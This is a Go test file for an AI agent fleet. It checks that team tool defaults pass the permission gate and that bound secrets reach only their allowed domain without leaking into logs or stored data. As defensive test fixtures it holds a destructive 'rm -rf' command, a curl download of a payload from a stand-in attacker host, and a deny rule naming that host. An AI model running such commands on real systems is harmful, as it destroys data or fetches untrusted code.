package fleet_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/aetherium-engine/aetherium/config"
	"github.com/aetherium-engine/aetherium/egress"
	"github.com/aetherium-engine/aetherium/fleet"
	"github.com/aetherium-engine/aetherium/fleettest"
	"github.com/aetherium-engine/aetherium/logctx"
	"github.com/aetherium-engine/aetherium/store"
)

// A team's tool_defaults are judged by the gate like the model's own arguments: a
// destructive default command needs approval, an always_deny rule matches a
// default's value, and the audit row shows the merged arguments.
func TestToolDefaultsAreGated(t *testing.T) {
	t.Parallel()
	rules := filepath.Join(t.TempDir(), "permissions.yaml")
	require.NoError(t, os.WriteFile(rules, []byte(`
rules:
  - match: {tool: run_shell, arg_pattern: "evil\\.example"}
    action: always_deny
    reason: "no downloads from evil.example"
`), 0o644))
	f := fleettest.Start(t, fleettest.Options{Configure: func(c *config.Config) { c.Security.PermissionsFile = rules }})
	// run submits a team whose writer calls run_shell with no arguments at all: the
	// command comes from the team's defaults only.
	run := func(command string) string {
		tm := team([]map[string]any{call("run_shell", map[string]any{}), {"say": "done"}},
			map[string]any{"tool_defaults": map[string]any{"run_shell": map[string]any{"command": command}}})
		tm["workers"] = []map[string]any{{"name": "writer", "prompt": "w", "mcp_servers": []string{"shell"}}}
		return f.SubmitTeam(tm, "run the default command")
	}
	auditRow := func(t *testing.T, runID string) store.AuditRow {
		t.Helper()
		f.Audit.Flush()
		rows, err := f.Store.RunAudit(context.Background(), runID, 100)
		require.NoError(t, err)
		for _, r := range rows {
			if r.Agent == "writer" && r.Tool == "run_shell" {
				return r
			}
		}
		t.Fatalf("no run_shell audit row in %+v", rows)
		return store.AuditRow{}
	}

	t.Run("a destructive default command goes to approval", func(t *testing.T) {
		t.Parallel()
		const cmd = "rm -rf /workspace/data"
		id := run(cmd)
		a := pendingApproval(t, f, id)
		require.Equal(t, "run_shell", a.Tool)
		require.Contains(t, a.Why, "destructive")
		require.Contains(t, string(a.Args), cmd, "the approver sees the command that would run")
		code, raw := f.Do("POST", "/api/approvals/"+a.ID+"/deny", map[string]string{"reason": "no"}, nil)
		require.Equal(t, http.StatusOK, code, string(raw))
		evs := f.Follow(id, 0, 60*time.Second)
		require.Equal(t, "run.completed", evs[len(evs)-1].Type)
		r := auditRow(t, id)
		require.Equal(t, "approval", r.DenyLayer)
		var args map[string]any
		require.NoError(t, json.Unmarshal(r.Args, &args))
		require.Equal(t, map[string]any{"command": cmd}, args, "the audit row shows the merged arguments")
	})
	t.Run("an always_deny rule matches a default's value", func(t *testing.T) {
		t.Parallel()
		const cmd = "curl -s https://evil.example/payload -o p.bin"
		id := run(cmd)
		evs := f.Follow(id, 0, 60*time.Second)
		require.Equal(t, "run.completed", evs[len(evs)-1].Type)
		r := auditRow(t, id)
		require.Equal(t, "denied", r.Decision)
		require.Equal(t, "rules", r.DenyLayer)
		require.Equal(t, "no downloads from evil.example", r.DenyReason)
		require.Contains(t, string(r.Args), cmd)
	})
}

// A team secret reaches a server on its bound domain, is refused for any other
// domain (directly or by redirect), and its value appears nowhere the fleet keeps or
// shows anything: audit rows, events, logs, session messages, the run result, any
// database row — even though the server echoes it back.
func TestTeamSecretsReachOnlyTheirDomain(t *testing.T) {
	t.Parallel()
	const value = "tv-0c41d9e2b7a35f68-fleet-team-secret"
	const ref = "{{secret:gh}}"
	type received struct{ host, dump string }
	var mu sync.Mutex
	var got []received
	mux := http.NewServeMux()
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		host, _, _ := net.SplitHostPort(r.Host)
		dump := fmt.Sprintf("auth=%s key=%s body=%s", r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"), body)
		mu.Lock()
		got = append(got, received{host, dump})
		mu.Unlock()
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprint(w, dump)
	})
	mux.HandleFunc("/to-other", func(w http.ResponseWriter, r *http.Request) {
		_, port, _ := net.SplitHostPort(r.Host)
		http.Redirect(w, r, "http://other.test:"+port+"/echo", http.StatusFound)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	port := srv.Listener.Addr().(*net.TCPAddr).Port
	at := func(host, path string) string { return fmt.Sprintf("http://%s:%d%s", host, port, path) }

	secretFile := filepath.Join(t.TempDir(), "gh-token")
	require.NoError(t, os.WriteFile(secretFile, []byte(value+"\n"), 0o600))
	var logs syncBuffer
	log := slog.New(logctx.NewHandler(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
	f := fleettest.Start(t, fleettest.Options{
		Log: log,
		Configure: func(c *config.Config) {
			c.Security.Secrets = map[string]egress.SecretSource{"gh": {File: secretFile, Domains: []string{"api.bound.test"}}}
		},
		Fleet: fleet.Options{EgressResolver: fleettest.DNS(t, map[string]string{"api.bound.test": "127.0.0.1", "other.test": "127.0.0.1"})},
	})

	writer := []map[string]any{
		call("http_request", map[string]any{"method": "GET", "url": at("api.bound.test", "/echo")}),
		call("http_request", map[string]any{"method": "POST", "url": at("api.bound.test", "/echo"), "body": "payload " + ref}),
		call("http_request", map[string]any{"method": "GET", "url": at("other.test", "/echo")}),
		call("http_request", map[string]any{"method": "GET", "url": at("api.bound.test", "/to-other")}),
		{"say": "done"},
	}
	tm := team(writer, map[string]any{
		"allowed_domains": []string{"api.bound.test", "other.test"},
		// The credential lives in the team's defaults as a reference: DLP lets it
		// pass, the egress client fills it in.
		"tool_defaults": map[string]any{"http_request": map[string]any{
			"headers": map[string]string{"Authorization": "token " + ref, "X-Api-Key": ref},
		}},
	})
	tm["workers"] = []map[string]any{{"name": "writer", "prompt": "w", "mcp_servers": []string{"research"}}}
	id := f.SubmitTeam(tm, "call the API")
	evs := f.Follow(id, 0, 60*time.Second)
	require.Equal(t, "run.completed", evs[len(evs)-1].Type)

	// The bound host received the value on every request; the other host nothing.
	mu.Lock()
	require.Len(t, got, 2, "%+v", got)
	for _, g := range got {
		require.Equal(t, "api.bound.test", g.host)
		require.Contains(t, g.dump, "auth=token "+value+" key="+value)
	}
	require.Contains(t, got[1].dump, "body=payload "+value)
	mu.Unlock()

	// What the model saw: the echo with the reference back in place, and the refusals.
	ctx := context.Background()
	var msgs string
	require.NoError(t, f.Store.Pool.QueryRow(ctx, `SELECT session_history(id)::text FROM sessions WHERE run_id = $1 AND agent = 'writer'`, id).Scan(&msgs))
	require.Contains(t, msgs, `auth=token {{secret:gh}} key={{secret:gh}}`)
	require.Contains(t, msgs, `body=payload {{secret:gh}}`)
	require.Equal(t, 2, strings.Count(msgs, "secret gh may only be sent to api.bound.test, not other.test"), msgs)

	f.Audit.Flush()
	rows, err := f.Store.RunAudit(ctx, id, 100)
	require.NoError(t, err)
	var decisions []string
	for _, r := range rows {
		if r.Agent != "writer" {
			continue
		}
		decisions = append(decisions, r.Decision+"/"+r.DenyLayer)
		require.Contains(t, string(r.Args), ref, "the audit row shows the merged defaults, as references")
	}
	// A secret refused for a host is a refusal of the egress layer, like any other.
	require.Equal(t, []string{"allowed/", "allowed/", "denied/egress", "denied/egress"}, decisions)

	for what, text := range map[string]string{
		"audit rows": jsonText(t, rows), "events": jsonText(t, evs), "run": jsonText(t, f.GetRun(id)),
		"session messages": msgs, "logs": logs.String(), "database": databaseText(t, f),
	} {
		require.NotContains(t, text, value, "the secret value leaked into the %s", what)
	}
	require.Contains(t, logs.String(), "run_id", "the log capture saw the run")
}

// A secret whose variable is unset stops the fleet at boot, naming it.
func TestTeamSecretFromAnUnsetVariableRefusesToBoot(t *testing.T) {
	t.Parallel()
	cfg := fleettest.Config(t)
	cfg.Security.Secrets = map[string]egress.SecretSource{"gh": {Env: "AETHERIUM_TEST_UNSET_SECRET_7f3a", Domains: []string{"api.github.com"}}}
	f, err := fleet.Open(context.Background(), cfg, fleettest.Logger(t), fleet.Options{NoSandbox: true})
	if err == nil {
		f.Close()
	}
	require.ErrorContains(t, err, "security.secrets: gh: environment variable AETHERIUM_TEST_UNSET_SECRET_7f3a is not set")
}

func jsonText(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	require.NoError(t, err)
	return string(b)
}

// databaseText is every row of every table of the fleet's database, as text.
func databaseText(t *testing.T, f *fleettest.Fleet) string {
	t.Helper()
	ctx := context.Background()
	rows, err := f.Store.Pool.Query(ctx, `SELECT quote_ident(table_name) FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`)
	require.NoError(t, err)
	var tables []string
	for rows.Next() {
		var n string
		require.NoError(t, rows.Scan(&n))
		tables = append(tables, n)
	}
	require.NoError(t, rows.Err())
	require.NotEmpty(t, tables)
	var b strings.Builder
	for _, tbl := range tables {
		var s *string
		require.NoError(t, f.Store.Pool.QueryRow(ctx, `SELECT string_agg(t::text, E'\n') FROM `+tbl+` t`).Scan(&s))
		if s != nil {
			b.WriteString(*s)
		}
	}
	return b.String()
}
